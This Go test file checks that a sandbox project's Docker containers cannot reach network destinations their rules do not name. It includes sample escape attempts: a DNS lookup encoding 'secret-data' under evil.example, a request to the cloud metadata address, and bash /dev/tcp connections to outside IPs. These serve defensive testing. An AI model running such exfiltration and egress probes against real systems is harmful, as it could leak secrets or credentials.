//go:build linux

package docker_test

import (
	"context"
	"errors"
	"net"
	"net/netip"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/sandjet/sandjet/internal/dockertest"
	"github.com/sandjet/sandjet/internal/longtest"
	"github.com/sandjet/sandjet/internal/testwait"
	"github.com/sandjet/sandjet/providers"
	"github.com/sandjet/sandjet/providers/docker"
	"github.com/sandjet/sandjet/providers/egress/egresstest"
	"github.com/sandjet/sandjet/schemas"
)

// networked opens a provider whose containers are in a world.
func networked(t *testing.T, w *egresstest.World, change func(*docker.Options)) egresstest.Sandboxes {
	t.Helper()
	if os.Geteuid() != 0 {
		longtest.Missing(t, "only root enters the networks of containers")
	}
	p := open(t, func(o *docker.Options) {
		o.Networks = []schemas.NetworkMode{schemas.DenyAll, schemas.AllowAll, schemas.Restricted}
		o.Resolver, o.Dial = w, w.Dial
		if change != nil {
			change(o)
		}
	})
	if !slices.Contains(p.Profile().Networks, schemas.Restricted) {
		t.Fatal("this host cannot keep restricted for containers")
	}
	return egresstest.Sandboxes{World: w, Provider: p, Command: inWorkspace, Kept: true}
}

// inWorkspace is a command with files.
func inWorkspace(script string) providers.Command {
	mounts := []providers.Mount{{Namespace: schemas.Namespace(account, "ws_1")}}
	return providers.Command{Script: script, Mounts: mounts, Spec: providers.Spec{Account: account, Mounts: mounts}}
}

// TestRestrictedNetwork tries every way out of a container that may reach a few hosts.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestRestrictedNetwork(t *testing.T) {
	w := egresstest.Furnish(t)
	s := networked(t, w, nil)
	s.Install(t)
	s.TestRestricted(t)
	// A call's own container has the same network.
	for args, want := range map[string]string{
		"get https://web.example/":              "HTTP/2.0 200 hello to web.example",
		"get https://evil.example/":             "no:",
		"get http://169.254.169.254/latest":     "no:",
		"say udp 93.184.216.34:443 x":           "no:",
		"text c2VjcmV0LWRhdGE.evil.example":     "no:",
		"say tcp [2606:2800:220:1::1946]:443 x": "no:",
	} {
		if said, _ := s.Probe(t, egresstest.Restricted(), strings.Split(args, " ")...); !strings.Contains(said, want) {
			t.Errorf("%s: %q, want %q", args, said, want)
		}
	}
}

// TestAllowAllNetwork: everything public, and nothing of the host's.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestAllowAllNetwork(t *testing.T) {
	w := egresstest.Furnish(t)
	s := networked(t, w, func(o *docker.Options) { o.PrivateNetworks = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")} })
	s.Install(t)
	s.TestAllowAll(t)
}

// TestRelaysOutliveTheirWorker: while no worker is there nothing gets out of a kept container, and the next worker continues with it.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestRelaysOutliveTheirWorker(t *testing.T) {
	w := egresstest.Furnish(t)
	var o docker.Options
	s := networked(t, w, func(opt *docker.Options) { o = *opt })
	s.Install(t)
	n := egresstest.Restricted()
	if b, ok := s.Provider.(docker.Backend); !ok || b.Close() != nil { // it would take over, sooner or later
		t.Fatal("the provider is not closed")
	}
	first, err := docker.Open(t.Context(), o)
	if err != nil {
		t.Fatal(err)
	}
	cmd := s.With(n, "")
	ref, err := first.Reserve(t.Context(), "kept", cmd.Spec)
	if err != nil {
		t.Fatal(err)
	}
	e := dockertest.Get(t)
	// A program runs in the container by itself, with or without a worker. It says each time whether it was greeted.
	e.Run(t, "exec", "-d", "--user", "1000:1000", ref.ID, "bash", "-c",
		`while :; do { exec 3<>/dev/tcp/93.184.217.7/9000 && read -r -t 5 -u 3 line && echo "$line" || echo no; } 2>/dev/null; sleep 0.05; done >/tmp/said`)
	said := func() string { return e.Run(t, "exec", ref.ID, "tail", "-n", "1", "/tmp/said") }
	testwait.Eventually(t, "a greeting by the first worker's relay", func() bool { return said() == "greeting" })
	// The first worker ends, and another one takes over later; between them nothing gets out.
	if err := first.Close(); err != nil {
		t.Fatal(err)
	}
	testwait.Eventually(t, "silence", func() bool { return said() == "no" })
	before := len(w.Dialled())
	for range 5 {
		if got := e.Run(t, "exec", ref.ID, "bash", "-c", "exec 3<>/dev/tcp/93.184.217.7/9000 && echo out || echo no"); got != "no" {
			t.Errorf("without a relay a command in the container says %q", got)
		}
	}
	if after := len(w.Dialled()); after != before {
		t.Errorf("%d connections were made without a relay", after-before)
	}
	second, err := docker.Open(t.Context(), o)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := errors.Join(second.Release(context.Background(), ref), second.Close()); err != nil {
			t.Error(err)
		}
	}()
	testwait.Eventually(t, "a greeting by the second worker's relay", func() bool { return said() == "greeting" })
	s.Provider = second
	if said, _ := s.ProbeIn(t, ref, n, "get", "https://web.example/"); !strings.Contains(said, "200 hello") {
		t.Errorf("%q", said)
	}
	// Other rules are another container.
	narrow := n
	narrow.AllowDomains = []string{"web.example"}
	cmd = s.With(narrow, "true")
	cmd.Sandbox = ref
	if _, err := second.Run(t.Context(), cmd); schemas.CodeOf(err) != schemas.NotFound {
		t.Errorf("a run under other rules: %v", err)
	}
}

// TestNetworksThatAWorkerCannotKeep: where a worker cannot enter the networks of containers, restricted is refused, and the profile
// does not have it.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestNetworksThatAWorkerCannotKeep(t *testing.T) {
	w := egresstest.Furnish(t)
	p := open(t, func(o *docker.Options) {
		o.Networks = []schemas.NetworkMode{schemas.DenyAll, schemas.Restricted}
		o.Resolver, o.Dial = w, w.Dial
		docker.CannotEnter(o)
	})
	if slices.Contains(p.Profile().Networks, schemas.Restricted) {
		t.Error("the profile says that it keeps restricted")
	}
	cmd := inWorkspace("true")
	cmd.Network = egresstest.Restricted()
	cmd.Spec.Network = cmd.Network
	res, err := p.Run(t.Context(), cmd)
	if schemas.CodeOf(err) != schemas.Unsupported || res.Started || !strings.Contains(err.Error(), "doctor") {
		t.Errorf("%v", err)
	}
	if _, err := p.Reserve(t.Context(), "kept", cmd.Spec); schemas.CodeOf(err) != schemas.Unsupported {
		t.Errorf("reserve: %v", err)
	}
}

// TestNetworksOfOthersAreNotEntered: the engine's word for a process is not believed.
//
//guarantee:a-box-reaches-what-its-rules-name
func TestNetworksOfOthersAreNotEntered(t *testing.T) {
	id := strings.Repeat("ab", 32)
	for _, pid := range []int{0, 1, os.Getpid(), 1 << 22} {
		if err := docker.Enter(id, pid); err == nil {
			t.Errorf("the network of process %d was entered for a container that does not exist", pid)
		}
	}
	if err := docker.Enter("", os.Getpid()); err == nil {
		t.Error("this process's own network was entered")
	}
	if routes, err := net.Interfaces(); err != nil || len(routes) == 0 {
		t.Errorf("%v, %v", routes, err)
	}
}
